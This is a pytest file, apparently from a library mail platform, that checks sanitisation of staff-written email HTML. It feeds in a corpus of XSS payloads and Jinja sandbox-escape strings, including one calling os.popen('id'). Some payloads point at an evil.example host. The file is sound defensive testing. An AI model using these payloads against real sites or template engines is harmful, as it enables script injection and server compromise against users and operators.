"""Staff-written HTML against an XSS corpus: whatever a marketer (or someone with a stolen
staff password) pastes into a mail body, the mail a member opens carries nothing that runs,
nothing fetched from elsewhere, and links only to https and mailto addresses."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from patronflow.mail.rendering import ALLOWED_TAGS, RenderedMail, render_mail
from patronflow.templating.sandbox import TemplateProblem
from patronflow.templating.staff_text import check_staff_template
from tests.factories import LibraryFactory, MemberFactory

BASE = "https://mail.example-network.be"
# What the layout itself is made of; the staff body may add ALLOWED_TAGS and nothing else.
LAYOUT_TAGS = {"html", "head", "meta", "title", "style", "body", "div", "table", "tbody", "tr",
               "td", "a", "br", "h2", "ul", "li", "strong"}  # fmt: skip

XSS = {
    "script element": "<script>alert(1)</script>",
    "script in upper case": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "img onerror": "<img src=x onerror=alert(1)>",
    "on-handler on a link": '<a href="https://ok.example/" onclick="alert(1)">lees</a>',
    "on-handler on a paragraph": '<p onmouseover="alert(1)">tekst</p>',
    "body onload": "<body onload=alert(1)>tekst</body>",
    "details ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "javascript: link": '<a href="javascript:alert(1)">klik</a>',
    "javascript: in mixed case": '<a href="JaVaScRiPt:alert(1)">klik</a>',
    "javascript: with a tab": '<a href="jav&#x09;ascript:alert(1)">klik</a>',
    "javascript: as entities": '<a href="&#106;&#97;vascript:alert(1)">klik</a>',
    "javascript: after spaces": '<a href="  javascript:alert(1)">klik</a>',
    "vbscript: link": '<a href="vbscript:msgbox(1)">klik</a>',
    "data: link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data: image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "svg onload": "<svg onload=alert(1)><circle r=4 /></svg>",
    "svg with script": "<svg><script>alert(1)</script></svg>",
    "svg xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "style element": "<style>@import 'https://evil.example/x.css'; p{color:red}</style>",
    "style expression": '<p style="width: expression(alert(1))">x</p>',
    "style url": '<p style="background:url(javascript:alert(1))">x</p>',
    "style behavior": '<span style="behavior: url(https://evil.example/x.htc)">x</span>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form": '<form action="https://evil.example/"><input name="pin"><button>OK</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base href": '<base href="https://evil.example/">',
    "third-party pixel": '<img src="https://tracker.example/p.gif" width="1" height="1">',
    "quotes breaking out of href": "<a href='https://ok.example/\"onmouseover=\"alert(1)'>x</a>",
    "quotes breaking out of title": (
        '<a title=\'"><script>alert(1)</script>\' href="https://ok.example/">x</a>'
    ),
    "unquoted attribute tricks": "<a href=https://ok.example/ onfocus=alert(1) autofocus>x</a>",
    "conditional comment": "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "comment breaking out": "<!-- --><script>alert(1)</script><!-- -->",
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "math mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "template element": "<template><img src=x onerror=alert(1)></template>",
    "plain http link": '<a href="http://plain.example/">onveilig</a>',
    "protocol-relative link": '<a href="//evil.example/">x</a>',
    "jinja output marked safe": "{{ '<script>alert(1)</script>' | safe }}",
    "jinja output escaped": "{{ '<img src=x onerror=alert(1)>' }}",
}


class Seen(HTMLParser):
    """The elements, attributes and comments of a mail, as a mail program sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.comments: list[str] = []
        self.style_elements = 0

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.add(tag)
        self.style_elements += tag == "style"
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, data) -> None:
        self.comments.append(data)


def seen(html: str) -> Seen:
    parser = Seen()
    parser.feed(html)
    parser.close()
    return parser


def mail_with_body(body: str, *, track_clicks: bool = True) -> RenderedMail:
    library = LibraryFactory.build(code="gent", track_clicks=track_clicks, track_opens=False)
    return render_mail(
        message_id=7,
        member=MemberFactory.build(library=library, first_name="Lotte"),
        library=library,
        subject="Nieuws",
        preheader="",
        body=f"<p>Dag {{{{ first_name }}}},</p>{body}<p>Tot snel!</p>",
        reading_tips=[],
    )


@pytest.mark.parametrize("track_clicks", [True, False], ids=["clicks tracked", "untracked"])
@pytest.mark.parametrize("payload", XSS.values(), ids=XSS.keys())
def test_nothing_executable_survives_in_the_mail(payload, track_clicks):
    mail = mail_with_body(payload, track_clicks=track_clicks)
    found = seen(mail.html)

    assert found.tags <= LAYOUT_TAGS | ALLOWED_TAGS
    assert found.style_elements == 1  # the layout's own
    assert all("script" not in comment.lower() for comment in found.comments)
    for tag, name, value in found.attributes:
        assert not name.startswith("on"), (tag, name, value)
        assert name not in ("src", "srcset", "background", "action", "formaction", "xlink:href")
        lowered = "".join(value.lower().split())
        assert not lowered.startswith(("javascript:", "vbscript:", "data:")), (tag, name, value)
        if name == "style":
            assert "expression(" not in lowered and "url(" not in lowered, value
            assert "behavior" not in lowered, value
        if name == "href":
            assert urlsplit(value).scheme in ("https", "mailto"), value
    assert "Dag Lotte," in mail.text  # the mail itself still reads


@pytest.mark.parametrize("payload", XSS.values(), ids=XSS.keys())
def test_click_links_only_ever_lead_to_https_or_mailto_addresses(payload):
    mail = mail_with_body(payload)
    for destination in mail.links:
        assert urlsplit(destination).scheme in ("https", "mailto"), destination
        assert urlsplit(destination).hostname != "evil.example"


def test_a_safe_link_keeps_working_after_the_sanitiser():
    mail = mail_with_body(
        '<p><a href="https://gent.bibliotheek.be/agenda" title="Agenda">Agenda</a> of '
        '<a href="mailto:info@gent.bibliotheek.be">mail ons</a></p>'
    )
    assert mail.links == ["https://gent.bibliotheek.be/agenda"]  # the privacy link is direct
    assert 'href="mailto:info@gent.bibliotheek.be"' in mail.html
    assert f'href="{BASE}/t/c/' in mail.html


@pytest.mark.parametrize(
    "first_name",
    ['<img src=x onerror="alert(1)">', '"><script>alert(1)</script>', "{{ 7 * 7 }}"],
)
def test_a_members_own_name_is_shown_as_text_never_as_markup(first_name):
    library = LibraryFactory.build(code="gent")
    mail = render_mail(
        message_id=8,
        member=MemberFactory.build(library=library, first_name=first_name),
        library=library,
        subject="Hallo {{ first_name }}",
        preheader="Voor {{ first_name }}",
        body="<p>Dag {{ first_name }},</p>",
        reading_tips=[],
    )
    assert seen(mail.html).tags <= LAYOUT_TAGS | ALLOWED_TAGS
    assert not any(name.startswith("on") for _, name, _ in seen(mail.html).attributes)
    assert f"Dag {first_name}," in mail.text  # shown literally, not run, not evaluated
    assert "49" not in mail.text


@pytest.mark.parametrize(
    "source",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ first_name.__class__ }}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
        "{{ lipsum.__globals__['os'] }}",
    ],
)
def test_sandbox_escapes_are_refused_when_the_template_is_saved(source):
    with pytest.raises(TemplateProblem):
        check_staff_template(source, html=True)


def test_on_an_instance_served_over_http_staff_links_still_need_https(settings):
    settings.BASE_URL = "http://127.0.0.1:8000"
    mail = mail_with_body('<p><a href="http://plain.example/">onveilig</a></p>')

    assert "plain.example" not in mail.html
    assert all(urlsplit(link).hostname != "plain.example" for link in mail.links)
    assert "onveilig" in mail.text  # the words stay, the link goes
